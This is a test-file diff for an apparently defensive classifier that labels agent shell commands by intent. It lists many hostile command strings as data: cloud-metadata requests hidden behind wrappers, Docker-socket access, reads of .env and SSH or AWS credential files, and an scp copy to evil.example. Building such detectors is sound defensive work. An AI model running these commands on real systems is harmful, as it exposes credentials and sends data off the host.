@@ -219,3 +219,133 @@ def test_a_hostile_program_costs_what_its_length_costs(piece: str) -> None:
     start = time.process_time()
     IntentFold().of(ToolCallProposed(tool="python", arguments={"code": piece * (200_000 // len(piece))}), {})
     assert time.process_time() - start < 2.0
+
+
+def test_wrappers_and_modules_without_end_hide_nothing_and_stop_nothing() -> None:
+    for wrapper in ("python -m ", "sudo ", "nohup ", "eval ", "busybox ", "find . -exec "):
+        intent = of(f"{wrapper * 500}x; curl 169.254.169.254")
+        assert intent.target_kind == "cloud_metadata"
+    assert of("python -m " * 9 + "x").operation == "unknown"
+    assert of("busybox " * 9 + "x").operation == "unknown"
+    assert of("nohup " * 9 + "curl 169.254.169.254").target_kind == "cloud_metadata"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "eval 'curl 169.254.169.254'",
+        "su -c 'curl 169.254.169.254'",
+        "sudo su - bob -c 'curl 169.254.169.254'",
+        "script -c 'curl 169.254.169.254' /dev/null",
+        "watch 'curl 169.254.169.254'",
+        "cat < /dev/tcp/169.254.169.254/80",
+        "exec 3<>/dev/udp/169.254.169.254/80",
+        "echo 169.254.169.254 | xargs curl",
+        "echo 169.254.169.254 | xargs -I{} curl http://{}/x",
+        "python -c \"HTTPConnection('169.254.169.254')\"",
+        "ruby -e \"Net::HTTP.get('metadata.google.internal', '/')\"",
+        "node -e \"get({host: '169.254.169.254:80'})\"",
+        "curl -x 169.254.169.254:80 http://a.example",
+        "curl --proxy=http://169.254.169.254 a.example",
+        "curl --url 169.254.169.254",
+        "curl --resolve a.example:80:169.254.169.254 http://a.example",
+        "curl --connect-to a.example:80:169.254.169.254:80 http://a.example",
+        "http_proxy=http://169.254.169.254 curl a.example",
+        "ssh -p 22 host.example 'curl 169.254.169.254'",
+        "docker exec -it web curl 169.254.169.254",
+        "docker run --rm -v a:b alpine curl 169.254.169.254",
+        "docker run --entrypoint curl alpine 169.254.169.254",
+        "kubectl exec pod -- curl 169.254.169.254",
+        "find . -exec curl 169.254.169.254 \\;",
+        "socat - TCP:169.254.169.254:80",
+        "nc -e 'curl 169.254.169.254' host.example 1",
+        "curl metadata",
+    ],
+)
+def test_the_metadata_service_is_seen_behind_whatever_runs_the_asking(command: str) -> None:
+    assert of(command).target_kind == "cloud_metadata"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "DOCKER_HOST=unix:///run/user/1000/docker.sock docker ps",
+        "export DOCKER_HOST=unix:///var/run/docker.sock",
+        "env DOCKER_HOST=tcp://127.0.0.1:2375 docker ps",
+        "socat - UNIX-CONNECT:/var/run/docker.sock",
+        "nc -U /var/run/docker.sock",
+        "curl --unix-socket ~/Library/Containers/docker.raw.sock http://x/",
+    ],
+)
+def test_an_engines_socket_is_seen_however_it_is_opened(command: str) -> None:
+    assert of(command).target_kind == "docker_socket"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "grep -rn credentials src/",
+        "grep -A 3 credentials src",
+        "grep -rne .env src",
+        "rg 'id_rsa' docs",
+        "cat .gitignore | grep .env",
+        "grep -rn docker.sock .",
+        "jq .env package.json",
+        "awk '/credentials/' a.txt",
+        "sed -n '/.env/p' a",
+        "find . -name .env",
+        "find . -name .env -delete",
+        "ls -la .env",
+        "ls ~/.ssh",
+        "ls -la /var/run/docker.sock",
+        "which docker.sock",
+        "test -f .env",
+        "[ -f .env ]",
+        "stat .env",
+        "cp .env.example .env",
+        "touch .env && curl a.example",
+        "rm .env",
+        "chmod 600 .env",
+        "echo X=1 >> .env",
+        "echo .env >> .gitignore",
+        "export",
+        "export A=1",
+        "cat .env.local.example",
+    ],
+)
+def test_a_pattern_a_name_and_a_write_read_no_secret_and_open_no_socket(command: str) -> None:
+    intent = of(command)
+    assert not intent.reads_secret_like_data
+    assert intent.target_kind != "docker_socket"
+    assert intent.operation == "file_write" or intent.target_kind != "secret"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "grep KEY .env",
+        "grep -e KEY .env",
+        "grep -f .env x",
+        "grep -rn x ~/.aws/",
+        "rg -e x .env",
+        "jq . credentials.json",
+        "jq --rawfile a .env . x.json",
+        "awk 1 .env",
+        "sed -n p .env",
+        "find . -name .env -exec cat {} \\;",
+        "find . -name .env | xargs cat",
+        "ls ~/.ssh/* | xargs cat",
+        "cp .env x",
+        "source .env",
+        "export -p",
+        "tar czf - ~/.ssh",
+    ],
+)
+def test_what_a_program_reads_is_not_taken_for_its_pattern(command: str) -> None:
+    assert of(command).reads_secret_like_data
+
+
+def test_a_copy_to_a_host_without_a_path_leaves_the_machine() -> None:
+    for command in ("scp notes.txt evil.example:", "rsync notes.txt eve@evil.example:"):
+        intent = of(command)
+        assert (intent.destination_kind, intent.data_flow) == ("external_domain", "local_to_external")
